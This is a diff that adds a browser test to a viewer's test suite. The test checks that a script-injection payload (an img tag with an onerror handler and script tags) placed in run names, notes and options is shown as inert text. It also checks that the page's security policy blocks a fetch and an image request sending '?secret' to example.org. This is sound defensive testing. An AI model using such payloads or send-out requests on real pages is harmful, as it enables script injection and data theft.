@@ -389,3 +389,29 @@ testMadeUp("says so of points that are never seen together", dataOf(apart), asyn
   assert.match(await textOf(page, "#ruler-state"), /point 0 is not seen in this frame\. There is no frame in which both/);
   assert.deepEqual(await plotted(page, "Distance"), []);
 });
+
+// Names of runs, notes, options and states come from files of strangers.
+const markup = '<img src="x" onerror="window.hit = 1"><script>window.hit = 1</script></script><b>bold</b>';
+const hostile = runOf({ name: markup, to: 4 });
+hostile.note = markup;
+hostile.status = markup;
+hostile.figures = [[markup, markup, markup]];
+hostile.options = [[markup, markup]];
+hostile.frames.note = { 0: markup };
+hostile.frames.costs = { [markup]: [1, 2, 3, 4] };
+testMadeUp("shows markup as text, and runs none of it", { ...dataOf(hostile), title: markup, notes: [markup] }, async (page) => {
+  await goTo(page, 3);
+  assert.equal(await page.evaluate(() => window.hit), undefined);
+  assert.equal(await page.locator("img[src=x], b").count(), 0);
+  assert.ok((await page.evaluate(() => document.body.textContent)).includes("onerror"));
+  // What would run all the same could send nothing anywhere: the page's policy.
+  const stopped = await page.evaluate(async () => {
+    const refused = [];
+    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
+    await fetch("https://example.org/").catch(() => {});
+    document.body.append(Object.assign(new Image(), { src: "https://example.org/?secret" }));
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return refused;
+  });
+  assert.deepEqual([...stopped].sort(), ["connect-src", "img-src"]);
+}, { allowed: "https://example.org/", tolerated: /Content Security Policy|violates the following/ });
